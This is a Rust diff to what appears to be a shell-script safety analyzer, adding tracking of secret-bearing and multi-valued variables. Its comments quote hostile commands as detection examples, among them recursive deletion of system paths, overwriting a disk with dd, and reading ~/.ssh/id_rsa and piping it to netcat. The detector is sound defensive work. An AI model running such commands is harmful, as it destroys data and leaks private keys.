@@ -47,6 +47,12 @@ pub(super) struct Analyzer {
     pub(super) incomplete: bool,
     /// Literal variables assigned so far (`X=rm; $X -rf /`).
     vars: Vec<(String, String)>,
+    /// Variables assigned the content of a secret (`K=$(cat
+    /// ~/.ssh/id_rsa)`), whose expansions carry it.
+    secret_vars: Vec<String>,
+    /// Loop variables bound to several values (`{/etc,/usr}`): which one
+    /// a use sees is only known at run time.
+    several_vars: Vec<String>,
     /// Inside the flat scan: nested scripts are not read again.
     flat: bool,
 }
@@ -60,6 +66,8 @@ impl Analyzer {
             commands: 0,
             incomplete: false,
             vars: Vec::new(),
+            secret_vars: Vec::new(),
+            several_vars: Vec::new(),
             flat: false,
         }
     }
@@ -171,6 +179,7 @@ impl Analyzer {
                 argv: segment.into_iter().map(Arg::literal).collect(),
                 redirects: Vec::new(),
                 input: std::mem::take(&mut input),
+                ..Invocation::default()
             };
             let out = self.run(inv);
             input = if piped {
@@ -222,9 +231,13 @@ impl Analyzer {
         let mut input = Input::Unknown;
         let mut out = Output::default();
         for command in &pipeline.seq {
-            let upstream_downloads = matches!(&input, Input::Pipe(o) if o.downloads);
+            let (upstream_downloads, upstream_secret) = match &input {
+                Input::Pipe(o) => (o.downloads, o.secret),
+                _ => (false, false),
+            };
             out = self.command(command, input);
             out.downloads |= upstream_downloads;
+            out.secret |= upstream_secret;
             input = Input::Pipe(out.clone());
         }
         out
@@ -284,9 +297,13 @@ impl Analyzer {
                 out
             }
             CompoundCommand::ForClause(f) => {
-                for w in f.values.iter().flatten() {
-                    self.render(&w.value);
-                }
+                let values: Vec<Arg> = f
+                    .values
+                    .iter()
+                    .flatten()
+                    .map(|w| self.render(&w.value))
+                    .collect();
+                self.bind_loop_variable(&f.variable_name, &values);
                 self.list(&f.body.list)
             }
             CompoundCommand::ArithmeticForClause(f) => self.list(&f.body.list),
@@ -326,6 +343,31 @@ impl Analyzer {
         }
     }
 
+    /// `for d in /etc /usr; do rm -rf "$d"; done`: the variable reads as
+    /// a brace expansion of its values (`{/etc,/usr}`), which the rules
+    /// expand wherever they look at paths. Left unbound when a value is
+    /// only known at run time or would break the braces.
+    fn bind_loop_variable(&mut self, name: &str, values: &[Arg]) {
+        self.vars.retain(|(n, _)| n != name);
+        self.several_vars.retain(|n| n != name);
+        if values.iter().any(|v| v.secret) && !self.secret_vars.iter().any(|n| n == name) {
+            self.secret_vars.push(name.to_owned());
+        }
+        let literal = |v: &Arg| !v.dynamic && !v.text.contains(['{', '}', ',']);
+        if values.is_empty() || !values.iter().all(literal) {
+            return;
+        }
+        let value = match values {
+            [one] => one.text.clone(),
+            many => {
+                self.several_vars.push(name.to_owned());
+                let texts: Vec<&str> = many.iter().map(|v| v.text.as_str()).collect();
+                format!("{{{}}}", texts.join(","))
+            }
+        };
+        self.vars.push((name.to_owned(), value));
+    }
+
     fn simple(&mut self, simple: &ast::SimpleCommand, input: Input) -> Output {
         self.commands += 1;
         if self.commands > MAX_COMMANDS {
@@ -362,7 +404,11 @@ impl Analyzer {
         if inv.argv.is_empty() {
             // `X=rm`: remembered for later commands of the same script.
             for (name, value) in assignments {
+                if value.secret && !self.secret_vars.contains(&name) {
+                    self.secret_vars.push(name.clone());
+                }
                 if !value.dynamic {
+                    self.several_vars.retain(|n| *n != name);
                     self.vars.retain(|(n, _)| *n != name);
                     self.vars.push((name, value.text));
                 }
@@ -380,8 +426,15 @@ impl Analyzer {
                 inv.argv.push(arg);
             }
             // `dd of=/dev/sda`, `make X=1`: to the command, an argument.
-            CommandPrefixOrSuffixItem::AssignmentWord(_, w) => {
+            CommandPrefixOrSuffixItem::AssignmentWord(assignment, w) => {
                 let arg = self.render(&w.value);
+                // `export K="$(cat ~/.ssh/id_rsa)"`: the variable carries it.
+                if let (true, ast::AssignmentName::VariableName(name)) =
+                    (arg.secret, &assignment.name)
+                    && !self.secret_vars.contains(name)
+                {
+                    self.secret_vars.push(name.clone());
+                }
                 inv.argv.push(arg);
             }
             CommandPrefixOrSuffixItem::IoRedirect(r) => self.redirect(r, inv),
@@ -391,6 +444,7 @@ impl Analyzer {
                     text: "<(..)".into(),
                     dynamic: true,
                     downloads: out.downloads,
+                    secret: out.secret,
                 });
             }
         }
@@ -413,7 +467,9 @@ impl Analyzer {
                         inv.redirects.push(Redirect { writes, target });
                     }
                     IoFileRedirectTarget::ProcessSubstitution(_, sub) => {
-                        self.list(&sub.list);
+                        let out = self.list(&sub.list);
+                        // `nc host 443 < <(cat ~/.ssh/id_rsa)`
+                        inv.secret_input |= out.secret && !writes;
                     }
                     IoFileRedirectTarget::Fd(_) => {}
                 }
@@ -432,6 +488,7 @@ impl Analyzer {
                         Ok(pieces) => {
                             let mut arg = Arg::default();
                             self.pieces(&pieces, &mut arg);
+                            inv.secret_input |= arg.secret;
                         }
                         Err(parse::Failure::Panicked) => self.incomplete = true,
                         Err(parse::Failure::Rejected) => {}
@@ -441,6 +498,7 @@ impl Analyzer {
             }
             IoRedirect::HereString(_, w) => {
                 let arg = self.render(&w.value);
+                inv.secret_input |= arg.secret;
                 inv.input = Input::Text(arg.text);
             }
         }
